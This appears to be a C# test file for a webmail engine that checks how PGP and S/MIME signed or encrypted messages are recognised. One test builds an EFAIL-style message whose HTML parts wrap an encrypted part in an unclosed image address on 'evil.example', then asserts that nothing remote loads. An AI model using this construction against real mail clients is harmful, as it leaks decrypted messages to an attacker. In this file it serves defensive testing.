using System.Text;
using Webmail.Engine.Reading;
using Webmail.Engine.Tests.Reading;

namespace Webmail.Engine.Tests.Trust;

/// <summary>How messages that are signed or encrypted are recognised, and that nothing encrypted meets anything remote.</summary>
public sealed class ProtectionTests
{
    private static async Task<ReadMessage> ReadAsync(byte[] source)
    {
        var message = WholeMessage.Parse(new MemoryStream(source), TestContext.Current.CancellationToken);
        var (body, structure) = PackedMessage.Unpack(message.Body);
        return await ReadMessage.AssembleAsync(message.Headers, structure, plan => Task.FromResult(MessageContent.Decode(plan, part => WholeMessage.Find(body, part.Section))));
    }

    private static Task<ReadMessage> ReadAsync(string source) => ReadAsync(Encoding.UTF8.GetBytes(source.ReplaceLineEndings("\r\n")));

    [Theory]
    [InlineData("Content-Type: text/plain\n\nHello\n", MessageProtection.None)]
    [InlineData("Content-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nabc\n-----END PGP MESSAGE-----\n", MessageProtection.PgpEncrypted)]
    [InlineData("Content-Type: text/plain\n\nHello\n-----BEGIN PGP MESSAGE-----\n\nabc\n", MessageProtection.PgpEncrypted | MessageProtection.TextBeside)]
    [InlineData("Content-Type: text/plain\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nHello\n", MessageProtection.PgpSigned)]
    [InlineData("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nAAAA\n", MessageProtection.SmimeEncrypted)]
    [InlineData("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b\nContent-Type: application/octet-stream\n\nabc\n--b--\n", MessageProtection.PgpEncrypted)]
    [InlineData("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\n\n--b\n\nHello\n--b\nContent-Type: application/pgp-signature\n\nabc\n--b--\n", MessageProtection.PgpSigned)]
    public async Task A_message_is_recognised(string source, MessageProtection expected) => Assert.Equal(expected, (await ReadAsync(source)).Details.Protection);

    /// <summary>EFAIL: the sender's HTML opens an address in one part, the secret comes, and another part closes it.</summary>
    [Theory]
    [InlineData("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nAAAA")]
    [InlineData("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream\n\nabc\n--e--")]
    public async Task What_stands_beside_an_encrypted_part_is_shown_alone_and_loads_nothing(string secret)
    {
        var message = await ReadAsync($"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<p>before</p><img width=90 height=90 src=\"http://evil.example/\n--b\n{secret}\n--b\nContent-Type: text/html\n\n\"><p>after</p><img width=90 height=90 src=\"https://evil.example/b.png\">\n--b--\n");

        Assert.True(message.Details.Protection.HasFlag(MessageProtection.TextBeside));
        Assert.Contains("after", message.Rendered.Body);
        foreach (var rendered in new[] { message.Rendered, message.Render(new RenderChoice { Pictures = picture => picture.AbsoluteUri }) })
            Assert.DoesNotContain("evil.example", rendered.Body.Replace("data-src", "", StringComparison.Ordinal));
        // Each part is whole in itself: what one leaves open, the other can't close.
        Assert.Equal(2, message.Content.Texts.Count);
    }

    [Fact]
    public async Task Every_message_of_the_corpus_is_recognised_by_its_name()
    {
        var wrong = new List<string>();
        foreach (var file in Directory.EnumerateFiles(Corpus.Require("eml/thunderbird-smime"), "alice.*.eml"))
        {
            var name = Path.GetFileNameWithoutExtension(file);
            var protection = (await ReadAsync(await File.ReadAllBytesAsync(file, TestContext.Current.CancellationToken))).Details.Protection;
            if (name.StartsWith("alice.env", StringComparison.Ordinal) && !name.Contains(".dave.", StringComparison.Ordinal) && !name.Contains("mixed", StringComparison.Ordinal) && !protection.HasFlag(MessageProtection.SmimeEncrypted))
                wrong.Add($"{name}: {protection}");
            if (!name.Contains("env", StringComparison.Ordinal) && !protection.HasFlag(MessageProtection.SmimeSigned))
                wrong.Add($"{name}: {protection}");
        }

        foreach (var file in Directory.EnumerateFiles(Corpus.Require("eml/thunderbird-openpgp"), "*.eml"))
        {
            var name = Path.GetFileNameWithoutExtension(file);
            var protection = (await ReadAsync(await File.ReadAllBytesAsync(file, TestContext.Current.CancellationToken))).Details.Protection;
            var expected = name switch
            {
                _ when name.Contains("unencrypted", StringComparison.Ordinal) && name.StartsWith("signed-by", StringComparison.Ordinal) => MessageProtection.PgpSigned,
                _ when name.StartsWith("partial-encrypt", StringComparison.Ordinal) => MessageProtection.PgpEncrypted | MessageProtection.TextBeside,
                _ when name.Contains("-encrypted-to-", StringComparison.Ordinal) || name.StartsWith("bob-enc", StringComparison.Ordinal) => MessageProtection.PgpEncrypted,
                _ => MessageProtection.None,
            };
            if (!protection.HasFlag(expected))
                wrong.Add($"{name}: {protection}, not {expected}");
        }

        Assert.Empty(wrong);
    }
}
